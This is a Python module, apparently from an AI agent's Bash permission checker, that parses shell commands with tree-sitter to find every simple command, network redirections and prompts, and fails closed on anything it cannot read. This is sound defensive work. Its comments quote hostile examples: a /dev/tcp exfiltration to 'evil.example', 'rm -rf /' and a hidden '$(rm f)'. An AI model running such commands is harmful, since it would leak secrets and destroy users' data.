"""Reading a Bash command without running it: every simple command it contains, via tree-sitter.

``parse_script`` parses the text with tree-sitter-bash (a C parser, linear in the text) and walks
the tree once, iteratively, emitting each simple command wherever it sits: in lists, pipelines,
subshells, groups, ``if``/``while``/``for``/``case`` and function bodies, command and process
substitutions, arithmetic, ``${x:-...}``, redirection targets and here-documents. Anything the
walk cannot vouch for is recorded in ``Script.opaque`` (the callers fail closed on it): a parse
error, a node type we do not model, a leaf that still holds shell syntax the grammar should have
split off. See ``docs/bash-permissions.md`` for why tree-sitter, and the guards.

``looks_interactive`` (prompt detection for background shells) lives here too, as before.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from functools import lru_cache
from typing import TYPE_CHECKING

from subagents.tools.bash_words import (
    Word,
    decode_ansi_c,
    has_unparsed_code,
    has_unparsed_expansion,
    has_unparsed_syntax,
    name_set,
    unescape_double_quoted,
    unescape_unquoted,
    word_from_parts,
)

if TYPE_CHECKING:
    from tree_sitter import Node, Parser

__all__ = [
    "MAX_SCRIPT_CHARS",
    "RESERVED_WORDS",
    "SOURCE_LIMIT",
    "Assignment",
    "Redirect",
    "Script",
    "SimpleCommand",
    "looks_interactive",
    "parse_script",
]

MAX_SCRIPT_CHARS = 256 * 1024
"""Longer commands are not parsed: opaque. Linux refuses a single ``bash -c`` argument of 128 KiB
or more (``MAX_ARG_STRLEN``), so nothing the Bash tool can run is left unanalysed."""
_CHUNK = 16 * 1024  # the parser reads in chunks: the GIL is given back between them


@dataclass(frozen=True, slots=True)
class Assignment:
    """``NAME=value`` before a command, alone, or as an argument of ``export``/``declare``."""

    name: str
    value: Word | None
    source: str = ""
    subscript: bool = False
    """``a[i]=v``: the subscript is evaluated as arithmetic."""


_WRITE_OPS = frozenset({">", ">>", "&>", "&>>", ">|", "<>", ">&"})
_HARMLESS_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr"})
_NETWORK_PATHS = ("/dev/tcp/", "/dev/udp/")


@dataclass(frozen=True, slots=True)
class Redirect:
    """One redirection; ``target`` is None for here-documents and here-strings (data)."""

    op: str
    target: Word | None = None

    @property
    def writes(self) -> bool:
        """Whether it may create or change a file (``/dev/null`` and ``2>&1`` do not), or open
        a network connection: bash connects for ``/dev/tcp/HOST/PORT`` and ``/dev/udp/…`` in
        any direction, ``cat < /dev/tcp/$(secret).evil.example/80`` sends what the host name
        holds; a computed target (``< $F``) may be one."""
        target = self.target
        if target is not None and self.op not in _WRITE_OPS and self.op[-1:] == "<":
            return not target.literal or target.text.startswith(_NETWORK_PATHS)
        if self.op not in _WRITE_OPS or target is None:
            return False
        if target.literal and target.text.startswith(_NETWORK_PATHS):
            return True
        if not target.literal:
            return True
        if target.text in _HARMLESS_TARGETS:
            return False
        return not (self.op == ">&" and (target.text.isdigit() or target.text == "-"))


@dataclass(frozen=True, slots=True)
class SimpleCommand:
    """One simple command: leading assignments, words (the program first), redirections."""

    source: str
    """The text as written (cut at ``SOURCE_LIMIT`` characters, see ``source_complete``)."""
    words: tuple[Word, ...] = ()
    assignments: tuple[Assignment, ...] = ()
    redirects: tuple[Redirect, ...] = ()
    source_complete: bool = True

    @property
    def writes(self) -> bool:
        return any(redirect.writes for redirect in self.redirects)


@dataclass(frozen=True, slots=True)
class Script:
    """What ``parse_script`` found in one command string."""

    commands: tuple[SimpleCommand, ...]
    opaque: tuple[str, ...] = ()
    """Why the structure cannot be fully seen; empty when it can."""
    evaluates: bool = False
    """Holds a context where bash evaluates text as arithmetic (``$(( ))``, ``[[ ]]``, ...)."""
    literal_code: bool = False
    """Some literal text (quoted, escaped, a here-document) holds ``$(`` or a backtick."""


def parse_script(command: str) -> Script:
    """The simple commands of ``command``; never raises, linear in its length."""
    if len(command) > MAX_SCRIPT_CHARS:
        return Script(
            commands=(),
            opaque=(
                f"the command is {len(command):,} characters long and commands over "
                f"{MAX_SCRIPT_CHARS:,} are not analysed",
            ),
        )
    data = command.encode("utf-8", "replace")  # a lone surrogate becomes `?`: a glob, stricter
    tree = _parser().parse(lambda offset, _point: data[offset : offset + _CHUNK])
    walker = _Walker(data)
    walker.walk(tree.root_node)
    return walker.script()


@lru_cache(maxsize=1)
def _language() -> object:
    import tree_sitter
    import tree_sitter_bash

    return tree_sitter.Language(tree_sitter_bash.language())


def _parser() -> Parser:
    """A new parser per call: parsers are not thread-safe and cost well under a microsecond."""
    from tree_sitter import Language, Parser

    language = _language()
    assert isinstance(language, Language)
    return Parser(language)


# Node types that only group other statements or words: walked through.
_CONTAINERS = frozenset(
    {
        "program", "list", "pipeline", "subshell", "do_group",
        "if_statement", "elif_clause", "else_clause", "while_statement", "for_statement",
        "case_statement", "case_item", "negated_command", "function_definition",
        "variable_assignments", "command_name", "concatenation", "string", "translated_string",
        "simple_expansion", "command_substitution", "process_substitution",
        "array", "heredoc_body", "heredoc_start", "heredoc_end", "herestring_redirect",
        "file_redirect", "file_descriptor", "variable_name", "special_variable_name",
        "number", "regex", "extglob_pattern", "test_operator", "brace_expression",
    }
)  # fmt: skip
# Arithmetic and test contexts: bash evaluates text (and array subscripts) found there.
_EVALUATING = frozenset(
    {
        "arithmetic_expansion", "c_style_for_statement", "binary_expression",
        "unary_expression", "ternary_expression", "postfix_expression",
        "parenthesized_expression", "subscript", "test_command",
    }
)  # fmt: skip
# Parents under which a `variable_assignment` is a statement of its own (`X=1; ...`).
_STATEMENT_PARENTS = frozenset(
    {
        "program", "list", "pipeline", "subshell", "compound_statement", "do_group",
        "if_statement", "elif_clause", "else_clause", "while_statement", "case_item",
        "negated_command", "variable_assignments", "redirected_statement",
    }
)  # fmt: skip
_DYNAMIC_PARTS = frozenset(
    {
        "simple_expansion", "expansion", "command_substitution", "process_substitution",
        "arithmetic_expansion", "array",
    }
)  # fmt: skip
_REDIRECT_OPS = frozenset(
    {">", ">>", "&>", "&>>", ">&", "<&", ">|", "<", "<>", "<<", "<<-", "<<<", ">&-", "<&-"}
)
SOURCE_LIMIT = 1024
"""Longest source text kept per simple command or computed word (for messages)."""
_WORD_CONTAINERS = frozenset({"concatenation", "string", "translated_string", "command_name"})
_LITERAL_PARTS = frozenset(
    {"word", "number", "regex", "extglob_pattern", "raw_string", "ansi_c_string",
     "string_content", "brace_expression"}
)  # fmt: skip
RESERVED_WORDS = name_set(
    "if then else elif fi do done case esac while until for in select function { } ! [[ ]]"
)
_PLAIN = re.compile(r"[A-Za-z0-9_./:,@%+=-]+")
"""Text with nothing to quote, expand, glob or guard (``-la``, ``src/a.py``, ``KEY=v``)."""
_REDIRECTS = frozenset({"file_redirect", "herestring_redirect", "heredoc_redirect"})
_UNPARSED_EXPANSION = re.compile(r"\$[A-Za-z_0-9@*#?$!{(-]")
_EVALUATING_EXPANSION = re.compile(r"\$\{!|\[|\$\{[^}:]*:[^-=?+]")


def _evaluates(expansion: str) -> bool:
    """``${!x}``, ``${a[i]}``, ``${x:offset}``: bash evaluates a variable's text there."""
    return _EVALUATING_EXPANSION.search(expansion) is not None


@dataclass
class _Walker:
    data: bytes
    commands: list[SimpleCommand] = field(default_factory=list)
    opaque: list[str] = field(default_factory=list)
    evaluates: bool = False
    literal_code: bool = False

    def script(self) -> Script:
        return Script(
            commands=tuple(self.commands),
            opaque=tuple(dict.fromkeys(self.opaque)),
            evaluates=self.evaluates,
            literal_code=self.literal_code,
        )

    def text(self, node: Node) -> str:
        return self.data[node.start_byte : node.end_byte].decode("utf-8", "replace")

    def snippet(self, node: Node) -> tuple[str, bool]:
        """At most ``SOURCE_LIMIT`` bytes of the node's text, and whether that is all of it.

        Nested constructs would otherwise copy each enclosing span again: quadratic.
        """
        start, end = node.start_byte, node.end_byte
        if end - start <= SOURCE_LIMIT:
            return self.data[start:end].decode("utf-8", "replace"), True
        return self.data[start : start + SOURCE_LIMIT].decode("utf-8", "replace") + "…", False

    def simple(
        self,
        outer: Node,
        words: Sequence[Word] = (),
        assignments: Sequence[Assignment] = (),
        redirects: Sequence[Redirect] = (),
    ) -> SimpleCommand:
        source, complete = self.snippet(outer)
        return SimpleCommand(
            source=source,
            words=tuple(words),
            assignments=tuple(assignments),
            redirects=tuple(redirects),
            source_complete=complete,
        )

    def walk(self, root: Node) -> None:
        stack: list[tuple[Node, str]] = [(root, "")]
        while stack:
            node, parent = stack.pop()
            if node.is_missing:
                self.opaque.append("the command is incomplete (the shell would not parse it)")
            if not node.is_named:
                continue
            kind = node.type
            if kind not in _CONTAINERS:
                self.visit(node, parent)
            children = node.children
            if children:
                stack.extend([(child, kind) for child in reversed(children)])

    def visit(self, node: Node, parent: str) -> None:
        """Act on one node (not a container); its children are walked afterwards regardless."""
        kind = node.type
        if kind == "command":
            if parent != "redirected_statement":
                self.commands.append(self.command(node, node, ()))
        elif kind == "redirected_statement":
            self.redirected(node)
        elif kind in ("word", "raw_string", "string_content", "ansi_c_string"):
            self.leaf(node, kind)
        elif kind == "heredoc_content":
            pass  # checked with its here-document, which knows whether it expands
        elif kind == "variable_assignment":
            if parent in _STATEMENT_PARENTS:
                assignment = self.assignment(node)
                self.commands.append(self.simple(node, assignments=(assignment,)))
        elif kind in ("declaration_command", "unset_command"):
            self.evaluates = True
            self.commands.append(self.declaration(node))
        elif kind == "heredoc_redirect":
            self.heredoc(node)
        elif kind in _EVALUATING:
            self.evaluates = True
        elif kind == "expansion":  # `${!x}`, `${a[i]}`, `${x:1}` evaluate text
            self.evaluates = self.evaluates or _evaluates(self.snippet(node)[0])
        elif kind == "compound_statement":  # `{ ...; }`, or the arithmetic command `(( ... ))`
            first = node.child(0)
            self.evaluates = self.evaluates or (first is not None and first.type == "((")
        elif kind == "ERROR":
            self.opaque.append("the command does not parse as shell syntax")
        elif kind != "comment":
            self.opaque.append(f"it uses shell syntax this checker does not model ({kind})")

    def leaf(self, node: Node, kind: str) -> None:
        """Guards where the grammar and bash could disagree, and data that holds code."""
        text = self.text(node)
        if _PLAIN.fullmatch(text):
            return  # the common case: nothing to quote, expand or guard
        if kind == "word" and has_unparsed_syntax(text):
            self.opaque.append(f"the word `{text[:60]}` holds shell syntax the parser left whole")
        elif kind == "string_content" and has_unparsed_code(text):
            self.opaque.append("a double-quoted string holds a substitution the parser missed")
        value = decode_ansi_c(text[2:-1]) if kind == "ansi_c_string" else text
        if "$(" in value or "`" in value:
            self.literal_code = True

    def heredoc(self, node: Node) -> None:
        """A here-document: its body is data, or (unquoted delimiter) text with expansions."""
        start = next((c for c in node.children if c.type == "heredoc_start"), None)
        expands = start is None or not any(q in self.text(start) for q in "'\"\\")
        for body in node.children:
            if body.type != "heredoc_body":
                continue
            literal = [self.text(c) for c in body.children if c.type == "heredoc_content"]
            unparsed = self.uncovered(body)
            if expands and any(has_unparsed_expansion(text) for text in unparsed):
                # tree-sitter-bash leaves a body whole, with no nodes, when its first
                # expansion has only blanks before it on its line (``<<EOF\n  $(rm f)``)
                self.opaque.append("a here-document's expansions were not parsed")
            for text in (*literal, *unparsed):
                if expands and has_unparsed_code(text):
                    self.opaque.append("a here-document holds a substitution the parser missed")
                if "$(" in text or "`" in text:
                    self.literal_code = True

    def uncovered(self, node: Node) -> list[str]:
        """The parts of ``node``'s text that none of its children covers."""
        parts, at = [], node.start_byte
        for child in node.children:
            if child.start_byte > at:
                parts.append(self.data[at : child.start_byte].decode("utf-8", "replace"))
            at = max(at, child.end_byte)
        if node.end_byte > at:
            parts.append(self.data[at : node.end_byte].decode("utf-8", "replace"))
        return parts

    # ------------------------------------------------------------------ commands

    def redirected(self, node: Node) -> None:
        body = node.child_by_field_name("body")
        redirect_nodes = node.children_by_field_name("redirect")
        if body is not None and body.type == "command":
            self.commands.append(self.command(body, node, redirect_nodes))
            return
        redirects: list[Redirect] = []
        swallowed: list[Word] = []
        for redirect in redirect_nodes:
            self.redirect(redirect, redirects, swallowed)
        self.commands.append(self.simple(node, swallowed, redirects=redirects))

    def command(self, node: Node, outer: Node, extra: list[Node] | tuple[()]) -> SimpleCommand:
        assignments: list[Assignment] = []
        words: list[Word] = []
        redirects: list[Redirect] = []
        previous_end = -1
        for child in (*node.named_children, *extra):
            kind = child.type
            if kind == "variable_assignment":
                assignments.append(self.assignment(child))
            elif kind in _REDIRECTS:
                self.redirect(child, redirects, words)
            elif kind != "comment":
                word = self.word(child)
                if words and self.continued(previous_end, child.start_byte):
                    word = _joined(words.pop(), word)  # `r\<newline>m` is one word to bash
                words.append(word)
            previous_end = child.end_byte
        if words and words[0].source in RESERVED_WORDS:
            # bash reads an unquoted reserved word here as syntax: tree-sitter-bash misreads
            # `! if ...; fi`, `! { ...; }` and `! for ...` that way (with no error node).
            self.opaque.append(
                f"the parser read the shell keyword `{words[0].source}` as a command"
            )
        return self.simple(outer, words, assignments, redirects)

    def continued(self, end: int, start: int) -> bool:
        """Only line continuations between two nodes: bash reads them as one word."""
        gap = self.data[end:start] if end >= 0 else b""
        return bool(gap) and not gap.replace(b"\\\n", b"")

    def declaration(self, node: Node) -> SimpleCommand:
        keyword = next((c for c in node.children if not c.is_named), None)
        words = [self.word_of_text(self.text(keyword))] if keyword is not None else []
        for child in node.named_children:
            if child.type == "variable_assignment":
                dynamic = self.has_expansion(child)
                text = self.snippet(child)[0] if dynamic else self.text(child)
                words.append(self.word_of_text(text, dynamic=dynamic))
            else:
                words.append(self.word(child))
        return self.simple(node, words)

    def assignment(self, node: Node) -> Assignment:
        name_node = node.child_by_field_name("name")
        value_node = node.child_by_field_name("value")
        subscript = name_node is not None and name_node.type == "subscript"
        if subscript:
            self.evaluates = True
        name = self.text(name_node) if name_node is not None else ""
        value = self.word(value_node) if value_node is not None else None
        source = self.snippet(node)[0]
        return Assignment(name=name, value=value, source=source, subscript=subscript)

    def redirect(self, node: Node, redirects: list[Redirect], words: list[Word]) -> None:
        """Add the redirection(s) of ``node``; destinations it swallowed are arguments.

        tree-sitter reads ``rm 2>/dev/null -rf /`` with ``-rf`` and ``/`` as further
        destinations of the redirection; bash passes them to ``rm``. Redirections written after
        a here-document's word (``cat <<EOF > out``) sit inside the here-document node.
        """
        kind = node.type
        op = next(
            (
                self.text(c)
                for c in node.children
                if not c.is_named and self.text(c) in _REDIRECT_OPS
            ),
            "<<<" if kind == "herestring_redirect" else "<<",
        )
        if kind == "file_redirect":
            destinations = [self.word(d) for d in node.children_by_field_name("destination")]
            redirects.append(Redirect(op=op, target=destinations[0] if destinations else None))
            words.extend(destinations[1:])
            return
        redirects.append(Redirect(op=op))
        if kind == "heredoc_redirect":
            for child in node.named_children:
                if child.type in _REDIRECTS:
                    self.redirect(child, redirects, words)

    def has_expansion(self, node: Node) -> bool:
        stack = list(node.children)
        while stack:
            child = stack.pop()
            if child.type in _DYNAMIC_PARTS:
                return True
            stack.extend(child.children)
        return False

    # ------------------------------------------------------------------ words

    def word_of_text(self, text: str, *, dynamic: bool = False) -> Word:
        return Word(text=text, source=text, dynamic=dynamic)

    def word(self, node: Node) -> Word:
        if node.end_byte - node.start_byte <= 256:
            text = self.text(node)
            if _PLAIN.fullmatch(text):
                return Word(text=text, source=text)  # the common case, taken without the walk
        parts: list[tuple[str, str, bool]] = []
        self.word_parts(node, parts)
        dynamic = any(part[2] for part in parts)
        return word_from_parts(parts, self.snippet(node)[0] if dynamic else self.text(node))

    def word_parts(self, node: Node, parts: list[tuple[str, str, bool]]) -> None:
        kind = node.type
        if kind in _WORD_CONTAINERS:
            for child in node.named_children:
                self.word_parts(child, parts)
            return
        if kind not in _LITERAL_PARTS:  # expansions, substitutions, arrays: decided at run time
            text = self.snippet(node)[0]
            parts.append((text, "_" * len(text), True))
            return
        text = self.text(node)
        hidden = "_" * len(text)
        if kind == "word":
            value, skeleton = unescape_unquoted(text)
            parts.append((value, skeleton, _UNPARSED_EXPANSION.search(skeleton) is not None))
        elif kind in ("number", "regex", "extglob_pattern"):
            parts.append((text, text, False))
        elif kind == "raw_string":
            parts.append((text[1:-1], hidden, False))
        elif kind == "ansi_c_string":
            parts.append((decode_ansi_c(text[2:-1]), hidden, False))
        elif kind == "string_content":
            parts.append((unescape_double_quoted(text), hidden, False))
        else:  # brace_expression: `{1..3}` becomes several words
            parts.append((text, text, True))


def _joined(first: Word, second: Word) -> Word:
    dynamic = first.dynamic or second.dynamic
    source = first.source + second.source
    return Word(
        text=source if dynamic else first.text + second.text,
        source=source,
        dynamic=dynamic,
        pattern=first.pattern or second.pattern,
        brace=first.brace or second.brace,
    )


# --------------------------------------------------------------------------- interactive prompts

_PROMPT_PATTERNS = re.compile(
    r"""
    [(\[]\s*y(es)?\s*/\s*n(o)?\s*[)\]/]        # (y/n) [Y/n] (yes/no/[fingerprint])
    | \bpass(word|phrase)\b[^\n]*:\s*$            # Password:  Enter passphrase for key:
    | \bpassword\s*for\b
    | \b(continue|proceed|overwrite|replace|retry|confirm)\b[^\n]*\?\s*$
    | \bpress\s+(any\s+key|enter|return)\b
    | \b(username|user\s*name|login|e-?mail|token|otp)\s*:\s*$
    | ^\s*\?\s+\S                                  # inquirer-style "? Project name"
    | \?\s*$                                       # any question left waiting
    | ^\s*(>|>>|\$|\#)\s*$                         # a bare REPL prompt
    """,
    re.IGNORECASE | re.VERBOSE,
)


def looks_interactive(tail: str) -> bool:
    """True when the last line of output looks like a prompt waiting for an answer.

    Used for stuck-on-input detection: a background shell whose output stopped growing and whose
    tail matches is reported with a hint to use non-interactive flags (``-y``, ``--yes``).
    """
    lines = [line for line in tail.replace("\r", "\n").split("\n") if line.strip()]
    if not lines:
        return False
    last = lines[-1]
    return len(last) <= 300 and _PROMPT_PATTERNS.search(last) is not None
